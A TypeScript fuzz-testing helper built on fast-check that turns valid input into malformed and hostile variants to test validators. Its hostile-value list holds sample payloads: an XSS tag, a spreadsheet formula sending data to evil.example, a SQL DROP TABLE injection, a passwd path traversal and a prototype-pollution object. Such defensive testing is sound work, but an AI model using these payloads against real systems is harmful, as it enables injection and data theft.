import fc from 'fast-check';

/**
 * Corrupting valid input the way a broken or hostile sender would: one change somewhere in the
 * value (a wrong type, a missing or extra key, an oversized string, a prototype key), or a value
 * that has nothing to do with the expected shape at all. Near-misses matter most: they pass the
 * shallow checks and reach the deep ones.
 */

type Path = Array<string | number>;

const isRecord = (value: unknown): value is Record<string, unknown> => typeof value === 'object' && value !== null && !Array.isArray(value);

/** Every place in a value a mutation can hit, the root included. */
export function pathsOf(value: unknown, prefix: Path = []): Path[] {
  const paths: Path[] = [prefix];
  if (Array.isArray(value)) value.forEach((item, i) => paths.push(...pathsOf(item, [...prefix, i])));
  else if (isRecord(value)) for (const [key, item] of Object.entries(value)) paths.push(...pathsOf(item, [...prefix, key]));
  return paths;
}

/** Sets an own property, even "__proto__" (as JSON.parse and structured clone do). */
function defineOwn(target: Record<string, unknown> | unknown[], key: string | number, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

function cloneDeep(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(cloneDeep);
  if (isRecord(value)) {
    const copy: Record<string, unknown> = {};
    for (const [key, item] of Object.entries(value)) defineOwn(copy, key, cloneDeep(item));
    return copy;
  }
  return value;
}

/** Replaces what is at `path` (the root when empty) with `change(old)`; `undefined` deletes a key. */
function updateAt(root: unknown, path: Path, change: (old: unknown) => unknown): unknown {
  if (path.length === 0) return change(root);
  const copy = cloneDeep(root) as Record<string, unknown> | unknown[];
  let parent: Record<string, unknown> | unknown[] = copy;
  for (const key of path.slice(0, -1)) parent = (parent as Record<string | number, unknown>)[key] as Record<string, unknown> | unknown[];
  const last = path.at(-1)!;
  const next = change((parent as Record<string | number, unknown>)[last]);
  if (next === DELETE) {
    if (Array.isArray(parent)) parent.splice(Number(last), 1);
    else delete parent[last as string];
  } else defineOwn(parent, last, next);
  return copy;
}

const DELETE = Symbol('delete');

/** Values that have broken parsers before: edges of numbers, strings and structure. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(
    null,
    undefined,
    Number.NaN,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
    -0,
    -1,
    2 ** 53,
    1e308,
    0.5,
    '',
    ' ',
    '\u0000',
    '\u202e',
    'x'.repeat(100_001),
    '<img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example/?"&A1)',
    "'; DROP TABLE sessions; --",
    '../../../etc/passwd',
    'IN110088251\n',
    'chrome-extension://otherextensionidotherextensionid/',
    'javascript:alert(1)',
    '00000000-0000-0000-0000-000000000000',
    true,
    false,
    [],
    {},
    [[[[[[[[[[[]]]]]]]]]]],
    JSON.parse('{"__proto__":{"polluted":true}}'),
    { constructor: { prototype: { polluted: true } } },
  ),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.integer(),
  fc.double(),
  fc.anything({ maxDepth: 3, withNullPrototype: true, withSparseArray: true, withBoxedValues: true, withDate: true }),
);

export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'valueOf', '', ' ', 'then', 'id', 'type', 'data'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 20 }),
);

type Change = 'replace' | 'delete' | 'extraKey' | 'retype' | 'oversize' | 'wrap';

function apply(kind: Change, old: unknown, value: unknown, key: string): unknown {
  switch (kind) {
    case 'replace':
      return value;
    case 'delete':
      return DELETE;
    case 'extraKey':
      if (isRecord(old)) {
        const copy = cloneDeep(old) as Record<string, unknown>;
        defineOwn(copy, key, value);
        return copy;
      }
      return value;
    case 'retype':
      if (typeof old === 'string') return old === '' ? 0 : Number.isNaN(Number(old)) ? [old] : Number(old);
      if (typeof old === 'number') return String(old);
      if (typeof old === 'boolean') return String(old);
      if (Array.isArray(old)) return Object.fromEntries([...old.entries()].map(([i, item]) => [String(i), item]));
      if (isRecord(old)) return Object.values(old);
      return old === null ? {} : null;
    case 'oversize':
      if (typeof old === 'string') return (old || 'x').repeat(Math.ceil(10_001 / Math.max(1, old.length)));
      if (Array.isArray(old)) return Array.from({ length: 1_001 }, () => cloneDeep(old[0] ?? value));
      if (typeof old === 'number') return old * 1e12 + 1e12;
      return value;
    case 'wrap':
      return [old];
  }
}

/** One mutation of `valid`: a change of some kind at some place in it. */
export function mutantOf(valid: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(valid);
  return fc
    .record({
      at: fc.nat({ max: paths.length - 1 }),
      kind: fc.constantFrom<Change>('replace', 'delete', 'extraKey', 'retype', 'oversize', 'wrap'),
      value: hostileValue,
      key: hostileKey,
    })
    .map(({ at, kind, value, key }) => {
      const path = paths[at]!;
      if (kind === 'delete' && path.length === 0) return undefined;
      return updateAt(valid, path, (old) => apply(kind, old, value, key));
    });
}

/** Up to three mutations on top of each other, or something else entirely. */
export function malformedFrom(valid: unknown): fc.Arbitrary<unknown> {
  const once = mutantOf(valid);
  return fc.oneof(
    { weight: 5, arbitrary: once },
    { weight: 2, arbitrary: once.chain((first) => mutantOf(first).chain((second) => mutantOf(second))) },
    { weight: 1, arbitrary: hostileValue },
  );
}
